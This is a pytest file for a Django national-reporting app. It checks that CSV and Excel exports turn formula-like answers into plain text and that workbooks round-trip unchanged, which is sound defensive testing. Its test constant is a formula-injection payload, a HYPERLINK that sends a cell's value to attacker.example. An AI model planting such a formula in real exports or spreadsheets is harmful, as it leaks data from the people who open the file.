"""National reports in spreadsheets: the CSV downloads and the Excel workbook keep typed text
from becoming a formula, and the workbook comes back exactly as it went out."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from smallarms.reporting import report_services as services
from smallarms.reporting.report_models import Answer
from smallarms.reporting.template_models import Question
from smallarms.states.models import State

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'


@pytest.fixture
def draft(report_cycle, reporting_officer_kenya):
    return services.start_report(
        acting_user=reporting_officer_kenya,
        state=State.objects.get(iso3="KEN"),
        cycle=report_cycle,
        language="en",
    )


def answer(report, user, code, value, restricted=False):
    question = Question.objects.get(template=report.template, code=code)
    current = Answer.objects.filter(report=report, question=question).first()
    return services.save_answer(
        acting_user=user,
        report=report,
        question=question,
        raw=value,
        base_revision=current.revision if current else 0,
        language="en",
        restricted=restricted,
    )


def values(report):
    return dict(report.answers.values_list("question__code", "value"))


@pytest.fixture
def published(draft, reporting_officer_kenya, secretariat):
    answer(draft, reporting_officer_kenya, "NC-1", "yes")
    answer(draft, reporting_officer_kenya, "NC-2", FORMULA)
    services.submit_report(acting_user=reporting_officer_kenya, report=draft)
    return services.publish_report(acting_user=secretariat, report=draft)


# CSV ---------------------------------------------------------------------------------------


def test_an_answer_typed_as_a_formula_is_text_in_the_reports_csv_and_exact_in_its_json(
    client, published
):
    url = reverse("reporting:report_download", kwargs={"pk": published.pk, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    row = next(row for row in rows if row["question"] == "NC-2")
    assert (row["answer"], row["value"]) == ("'" + FORMULA, "'" + FORMULA)
    url = reverse("reporting:report_download", kwargs={"pk": published.pk, "format": "json"})
    answers = {a["question"]: a["value"] for a in client.get(url).json()["answers"]}
    assert answers["NC-2"] == FORMULA


def test_an_answer_typed_as_a_formula_is_text_in_the_csv_of_one_question_across_states(
    client, published
):
    url = reverse("reporting:question_compare_export", kwargs={"code": "BMS90", "question": "NC-2"})
    (row,) = csv.DictReader(io.StringIO(client.get(url).content.decode("utf-8-sig")))
    assert row["answer"] == "'" + FORMULA


# The workbook out and back -----------------------------------------------------------------


def download(client, report) -> bytes:
    response = client.get(reverse("reporting:workbook_download", kwargs={"pk": report.pk}))
    assert response.status_code == 200
    return response.content


def upload(client, report, data: bytes):
    return client.post(
        reverse("reporting:workbook_upload", kwargs={"pk": report.pk}),
        {"workbook": SimpleUploadedFile("report.xlsx", data)},
        follow=True,
    )


def saved(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def row_of(sheet, code):
    return next(row for row in sheet.iter_rows(min_row=2) if row[0].value == code)


@pytest.fixture
def typed(draft, reporting_officer_kenya):
    """A draft whose answers a spreadsheet would take for formulas."""
    answer(draft, reporting_officer_kenya, "NC-1", "yes")
    answer(draft, reporting_officer_kenya, "NC-2", "=1+1")
    answer(draft, reporting_officer_kenya, "NC-3", {"name": "@Awa Ba", "telephone": "+221 33"})
    answer(draft, reporting_officer_kenya, "TR-1", "-12")
    answer(draft, reporting_officer_kenya, "TR-3", [{"area": FORMULA, "amount": "-5"}])
    return draft


def test_the_workbook_writes_typed_formulas_as_text_cells(client, typed, reporting_officer_kenya):
    client.force_login(reporting_officer_kenya)
    book = openpyxl.load_workbook(io.BytesIO(download(client, typed)))
    cells = [
        row_of(book["general"], "NC-2")[2],
        row_of(book["general"], "NC-3.name")[2],
        row_of(book["iti"], "TR-1")[2],
        book["TR-3"]["A2"],
    ]
    assert [c.value for c in cells] == ["=1+1", "@Awa Ba", "-12", FORMULA]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s"]
    assert [c.quotePrefix for c in cells] == [True, True, False, True]


def test_a_workbook_comes_back_exactly_as_it_went_out(client, typed, reporting_officer_kenya):
    client.force_login(reporting_officer_kenya)
    before = values(typed)
    data = download(client, typed)
    page = upload(client, typed, data)
    assert "The workbook is imported: 0 answers changed." in page.text
    # Opened and saved again by a spreadsheet program (here openpyxl): still the same.
    page = upload(client, typed, saved(openpyxl.load_workbook(io.BytesIO(data))))
    assert "The workbook is imported: 0 answers changed." in page.text
    assert values(typed) == before
    assert before["NC-2"] == "=1+1" and before["TR-3"] == [{"area": FORMULA, "amount": "-5"}]


def test_a_text_with_control_characters_still_downloads_as_a_workbook(
    client, draft, reporting_officer_kenya
):
    answer(draft, reporting_officer_kenya, "NC-2", "Commission\x0b nationale")
    client.force_login(reporting_officer_kenya)
    book = openpyxl.load_workbook(io.BytesIO(download(client, draft)))
    assert row_of(book["general"], "NC-2")[2].value == "Commission nationale"
